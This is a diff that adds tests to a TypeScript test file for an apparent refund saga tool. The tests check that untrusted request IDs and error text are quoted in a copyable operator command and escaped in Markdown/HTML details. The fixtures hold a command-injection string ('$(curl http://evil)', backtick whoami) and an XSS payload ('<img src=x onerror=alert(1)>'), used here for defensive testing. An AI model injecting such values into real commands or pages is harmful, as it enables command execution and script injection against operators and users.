@@ -148,3 +148,25 @@ test('what was asked for is told once, at the start', () => {
     'Asked by system at 2026-11-20 10:00 UTC: the whole order, refund to original, again after req-0',
   )
 })
+
+describe('what strangers wrote', () => {
+  const rogue = 'x --by a; $(curl http://evil) `whoami` #'
+
+  test('is one word in the command that an operator copies', () => {
+    expect(resolveCommand(rogue, 'retry')).toContain(`resolve '${rogue}' --decision retry`)
+  })
+
+  test('is neither Markdown nor HTML nor a line of its own in the details', () => {
+    const error = '<img src=x onerror=alert(1)>\n\n# **All is well** [click](http://evil)'
+    const attention = {
+      ...({ reason: 'step-failed', step: 'refund', direction: 'do', round: 1, error } as const),
+      ...{ since: '2026-11-20T10:00:00.000Z', remedies: ['retry'] as const },
+    }
+    const parked = { attention, what: 'Refund 33.51 EUR', resolution: undefined, answer: undefined }
+    const shown = details({ ...saga(), requestId: rogue, parked: [parked] })
+    expect(shown).toContain(
+      String.raw`Error: \<img src=x onerror=alert(1)\>  \# \*\*All is well\*\* \[click\](http\://evil)`,
+    )
+    expect(shown).toContain(`\`\`npm run saga -- resolve '${rogue}' --decision retry`)
+  })
+})
